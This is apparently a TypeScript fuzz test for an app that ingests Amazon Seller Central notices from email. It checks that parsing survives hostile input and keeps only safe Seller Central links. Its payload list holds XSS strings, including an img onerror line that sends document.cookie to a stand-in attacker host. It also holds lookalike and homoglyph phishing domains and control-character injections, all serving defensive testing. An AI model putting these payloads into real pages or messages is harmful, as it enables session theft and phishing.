// Amazon's notices by email, from a stranger's keyboard: real notices with hostile pieces put in
// (script tags, event handlers, javascript: links, lookalike and look-alike-Unicode domains,
// control characters), sent in every encoding mail uses, go the whole way the email source sends
// them (MIME to text, the notice parser, the intake into the inbox). Nothing throws, every saved
// notification is one the inbox's schema accepts, and every link kept from a notice is one the
// app would open: https on Seller Central's own hosts, never a lookalike.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createFlagwatchApp } from '../../../main/app/service';
import { isAllowedExternalUrl } from '../../../main/core/external-links';
import { parseNotice } from '../../../main/core/notice/parse-notice';
import { placeNotice } from '../../../main/core/notice/place-notice';
import { PerformanceNotificationSchema } from '../../../main/core/schema';
import { messageText } from '../../../main/sources/email';
import { US } from '../../support/fixtures';
import { memoryStores } from '../../support/memory-stores';
import { receivedAt, sampleNotice } from '../core/notice/fixtures';
import { testAppDependencies } from '../../support/app-dependencies';

const samples = [
  'en-account-deactivated',
  'en-inauthentic-listings-removed',
  'en-ip-complaint-numbered',
  'en-policy-warning-single-paragraph',
  'de-produktfaelschung',
  'ja-shinsei',
  'zh-zhishichanquan',
].map(sampleNotice);

const hostile = fc.constantFrom(
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
  '<a href="javascript:alert(1)">Appeal here</a>',
  'javascript:alert(1)',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example">',
  'https://sellercentral.amazon.com.evil.example/appeal',
  'https://sellercentral.amazon.com@evil.example/appeal',
  'https://sellercentral-amazon.com/appeal',
  'https://xn--sellercentral-amazn-9zb.com/appeal',
  'https://sellercentral.amаzon.com/appeal',
  'http://sellercentral.amazon.com:8443/appeal',
  'sellercentral.amazon.de.example.org/x',
  'https://sellercentral.amazon.com/\\evil.example',
  'https://sellercentral.amazon.com/performance/account/health',
  '\u202eelgoog.com',
  '\u0000\u0007\u001b[31m',
  '&lt;script&gt;',
  '"><b>',
  'ASIN: B0EVIL0001',
);

/** A sample notice with hostile pieces put in at random places. */
const noticeText = fc
  .tuple(fc.constantFrom(...samples), fc.array(fc.tuple(fc.nat(), hostile), { maxLength: 6 }))
  .map(([sample, insertions]) =>
    insertions.reduce((text, [at, piece]) => {
      const i = at % (text.length + 1);
      return `${text.slice(0, i)} ${piece} ${text.slice(i)}`;
    }, sample),
  );

const b64 = (text: string) => Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\r\n');
const qp = (text: string) =>
  [...Buffer.from(text)]
    .map((byte) =>
      byte > 126 || byte === 61 ? `=${byte.toString(16).toUpperCase().padStart(2, '0')}` : String.fromCharCode(byte),
    )
    .join('');
const subject = fc.oneof(
  fc.constant('Policy Warning'),
  hostile.map((h) => `=?UTF-8?B?${Buffer.from(`Action required ${h}`).toString('base64')}?=`),
  hostile.map((h) => `Your account ${h}`),
);

/** The same text as mail carries it: plain, quoted-printable, base64, HTML, or both in a multipart. */
const message = fc
  .tuple(noticeText, subject, fc.constantFrom('plain', 'qp', 'base64', 'html', 'alternative'))
  .map(([text, subjectLine, form]) => {
    const head = `From: Amazon <seller-performance@amazon.com>\r\nSubject: ${subjectLine}\r\nDate: Fri, 20 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n`;
    const html = `<html><body onload="alert(1)"><p>${text.replace(/\n/g, '<br>')}</p></body></html>`;
    switch (form) {
      case 'plain':
        return `${head}Content-Type: text/plain; charset=utf-8\r\n\r\n${text}`;
      case 'qp':
        return `${head}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qp(text)}`;
      case 'base64':
        return `${head}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(text)}`;
      case 'html':
        return `${head}Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(html)}`;
      default:
        return `${head}Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${text}\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n--b--\r\n`;
    }
  });

describe('email notices under fuzzing', () => {
  it('take 10,000 hostile messages from the mailbox to the inbox without a throw or an unsafe link', async () => {
    const stores = memoryStores();
    const shown: string[] = [];
    const app = createFlagwatchApp(
      testAppDependencies({
        stores,
        notifier: { show: async (n) => void shown.push(n.title, n.body) },
      }),
    );
    const origin = { kind: 'email', accountId: 'acct-1', marketplaceId: US, receivedAt } as const;
    let runs = 0;
    let parsedOk = 0;
    await fc.assert(
      fc.asyncProperty(message, async (raw) => {
        runs++;
        const mail = await messageText(Buffer.from(raw));
        const parsed = parseNotice({ text: mail.text, subject: mail.subject, from: mail.from, receivedAt });
        if (!parsed.ok) return;
        parsedOk++;
        for (const link of parsed.notice.links) expect(isAllowedExternalUrl(link), link).toBe(true);
        // Every notice placed as the intake places it; every 20th through the running app's
        // intake itself (inbox, badge, native notification), which costs a hundred times more.
        const placed = placeNotice([], parsed.notice, origin, receivedAt);
        if (placed.kind !== 'duplicate')
          expect(PerformanceNotificationSchema.safeParse(placed.notification).success).toBe(true);
        if (parsedOk % 20 === 0) await app.notices.add(parsed.notice, origin);
      }),
      { numRuns: 10_000, interruptAfterTimeLimit: 60_000, seed: 20261127 },
    );
    const { notifications } = stores.inbox().read();
    for (const notification of notifications) {
      expect(PerformanceNotificationSchema.safeParse(notification).success).toBe(true);
      for (const link of notification.notice?.links ?? []) expect(isAllowedExternalUrl(link), link).toBe(true);
    }
    // Most hostile variants of a real notice are still that notice, and were raised as one.
    expect(parsedOk).toBeGreaterThan(runs / 2);
    expect(notifications.length).toBeGreaterThan(0);
    expect(shown.length).toBeGreaterThan(0);
  }, 90_000);
});
